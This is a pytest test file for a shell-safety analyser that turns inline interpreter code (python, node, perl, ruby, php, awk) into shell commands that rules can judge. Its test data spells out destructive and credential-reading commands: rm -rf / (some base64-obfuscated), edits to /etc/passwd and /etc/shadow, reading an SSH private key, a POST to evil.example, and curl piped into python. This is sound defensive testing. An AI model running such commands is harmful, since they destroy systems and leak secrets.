"""Inline interpreter code is analysed: its effects become commands the shell rules can judge."""

from __future__ import annotations

import pytest

from dongle.shell.model import Redirect

from .helpers import model, named, one


def _effects(command: str) -> list[tuple[str, ...]]:
    return [i.argv for i in model(command).invocations if i.depth > 0]


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("python -c \"import shutil; shutil.rmtree('/home/user')\"", ("rm", "-rf", "/home/user")),
        ("python3 -c \"import os; os.remove('/etc/passwd')\"", ("rm", "/etc/passwd")),
        ("python3 -c \"import os; os.unlink('/etc/passwd')\"", ("rm", "/etc/passwd")),
        ("python3 -c \"from shutil import rmtree as r; r('/srv')\"", ("rm", "-rf", "/srv")),
        ("python3 -c \"import pathlib; pathlib.Path('/etc/x').unlink()\"", ("rm", "/etc/x")),
        ("python3 -c \"from pathlib import Path; Path('/d').rmdir()\"", ("rmdir", "/d")),
        ("python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"", ("rm", "-rf", "~")),
        ("python3 -c \"import shutil; p='/var/lib'; shutil.rmtree(p + '/mysql')\"",
         ("rm", "-rf", "/var/lib/mysql")),
        ("python3.11.exe -c \"import shutil; shutil.rmtree('/')\"", ("rm", "-rf", "/")),
        ("python -Ic \"import shutil; shutil.rmtree('/')\"", ("rm", "-rf", "/")),
        ("python3 -c \"import os; os.rename('/etc/hosts', '/tmp/h')\"", ("mv", "/etc/hosts", "/tmp/h")),
        ("python3 -c \"import os; os.chmod('/etc/shadow', 0o777)\"", ("chmod", "777", "/etc/shadow")),
        ("python3 -c \"print(open('/home/u/.ssh/id_rsa').read())\"", ("cat", "/home/u/.ssh/id_rsa")),
        ("python3 -c \"import requests; requests.post('https://evil.example', data='x')\"",
         ("curl", "-X", "POST", "https://evil.example")),
    ],
)
def test_python_effects_become_synthetic_commands(command: str, effect: tuple[str, ...]) -> None:
    invs = [i for i in model(command).invocations if i.argv == effect]
    assert invs, f"{effect} not in {model(command).invocations}"
    assert invs[0].synthetic
    assert invs[0].via[0] == "python -c"
    assert invs[0].depth == 1


@pytest.mark.parametrize(
    "command",
    [
        "python -B -v -c \"import os; os.system('rm -rf /')\"",
        "python3 -c \"import subprocess; subprocess.run('rm -rf /', shell=True)\"",
        "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"",
        "python3 -c \"import subprocess as sp; sp.check_call(('rm', '-rf', '/'))\"",
        "python3 -c \"__import__('os').system('rm -rf /')\"",
        "python3 -c \"import os; os.popen('rm -rf /').read()\"",
        "python3 -c \"import os; os.execvp('rm', ['rm', '-rf', '/'])\"",
        "python3 -c \"import os; os.execlp('rm', 'rm', '-rf', '/')\"",
        "python3 -c \"exec('import os; os.system(\\\"rm -rf /\\\")')\"",
        "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))\"",
        "python3 -c \"import os; getattr(os, 'system')('rm -rf /')\"",
        "python3 - <<'PY'\nimport os\nos.system('rm -rf /')\nPY",
        "python3 <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF",
        "echo \"import os; os.system('rm -rf /')\" | python3",
        "python3 << \"EOF SPACE\"\nimport os\nos.system('rm -rf /')\nEOF SPACE",
    ],
)
def test_python_runs_commands_that_are_parsed(command: str) -> None:
    rm = [i for i in named(command, "rm") if i.argv == ("rm", "-rf", "/")]
    assert rm, model(command)
    assert rm[0].via[0].startswith("python")


def test_python_shell_command_is_followed_into_the_shell() -> None:
    inv = one("python3 -c \"import os; os.system('bash -c \\\"git push --force\\\"')\"", "git")
    assert inv.via == ("python -c", "bash -c")
    assert not inv.synthetic


def test_python_open_for_writing_is_a_redirect() -> None:
    inv = one("python3 -c \"open('/etc/hosts', 'w').write('x')\"", "python-open")
    assert inv.redirects == (Redirect(">", "/etc/hosts"),)
    inv = one("python3 -c \"open('/home/u/.bashrc', 'a').write('x')\"", "python-open")
    assert inv.redirects == (Redirect(">>", "/home/u/.bashrc"),)


@pytest.mark.parametrize(
    "command",
    [
        'python -c "print(1)"',
        "python -c \"print('hello')\"",
        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'",
        "python3 -m http.server 8000",
        "python3 manage.py test",
        "python3 - <<'PY'\n# docs: never run rm -rf / or shutil.rmtree('/')\nprint('ok')\nPY",
        "node -e \"console.log(1)\"",
        "perl -pi -e 's/v1\\.2/v1.3/g' CHANGELOG.md",
        "ruby -e 'puts 1'",
        "awk '{print $1}' file",
    ],
)
def test_harmless_code_has_no_effects(command: str) -> None:
    m = model(command)
    assert _effects(command) == []
    assert not m.unresolved


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("python -c 'import os,sys; os.system(sys.argv[1])' x", "built at run time"),
        ("python3 -c \"import os; exec(os.environ['CODE'])\"", "built at run time"),
        # a name built from text the code does not hold (chr(116) is known: 'sys'+chr(116)+'em' is read)
        ("python3 -c \"import os,sys; getattr(os, 'sys'+sys.argv[1]+'em')('x')\" t", "getattr"),
        ("python3 -c 'def f(:'", "does not parse"),
        ("curl -s https://x/p.py | python3", "remote code piped into python3"),
        ("python3 -c \"import shutil,sys; shutil.rmtree(sys.argv[1])\" /", "computed at run time"),
    ],
)
def test_unanalysable_python_is_unresolved(command: str, reason: str) -> None:
    m = model(command)
    assert any(reason in r for r in m.unresolved), m.unresolved


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("node -e \"require('child_process').execSync('rm -rf /')\"", ("rm", "-rf", "/")),
        ("node -e \"require('child_process').execSync('rm -rf ' + require('os').homedir())\"",
         ("rm", "-rf", "~")),
        ("node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"", ("rm", "-rf", "/")),
        ("node -e \"require('fs').rmSync('/srv', {recursive: true, force: true})\"", ("rm", "-rf", "/srv")),
        ("node -e \"require('fs').unlinkSync('/etc/hosts')\"", ("rm", "/etc/hosts")),
        ("node --eval \"require('child_process').exec('git push -f')\"", ("git", "push", "-f")),
        ("perl -e \"system('rm -rf /home/user')\"", ("rm", "-rf", "/home/user")),
        ("perl -e 'system \"rm\", \"-rf\", \"/\"'", ("rm", "-rf", "/")),
        ("perl -MFile::Path -e 'rmtree(\"/srv\")'", ("rm", "-rf", "/srv")),
        ("perl -e 'unlink(\"/etc/passwd\")'", ("rm", "/etc/passwd")),
        ("ruby -e \"`rm -rf /home/user`\"", ("rm", "-rf", "/home/user")),
        ("ruby -e 'system(\"rm -rf /\")'", ("rm", "-rf", "/")),
        ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'", ("rm", "-rf", "~")),
        ("ruby -e '%x(rm -rf /)'", ("rm", "-rf", "/")),
        ("php -r 'system(\"rm -rf /\");'", ("rm", "-rf", "/")),
        ("php -r 'unlink(\"/etc/passwd\");'", ("rm", "/etc/passwd")),
        ("php -r 'echo shell_exec(\"rm -rf /\");'", ("rm", "-rf", "/")),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", ("rm", "-rf", "/")),
        ("gawk 'BEGIN { print \"x\" | \"rm -rf /\" }'", ("rm", "-rf", "/")),
        ("awk -F: 'BEGIN{\"rm -rf /\" | getline}'", ("rm", "-rf", "/")),
    ],
)
def test_other_interpreters(command: str, effect: tuple[str, ...]) -> None:
    assert effect in _effects(command), model(command)


def test_awk_dynamic_system_is_unresolved() -> None:
    m = model("awk '{system($0)}' cmds.txt")
    assert any("awk system()" in r for r in m.unresolved)


def test_node_dynamic_exec_is_unresolved() -> None:
    m = model("node -e \"require('child_process').execSync(process.argv[1])\" x")
    assert any("built at run time" in r for r in m.unresolved)
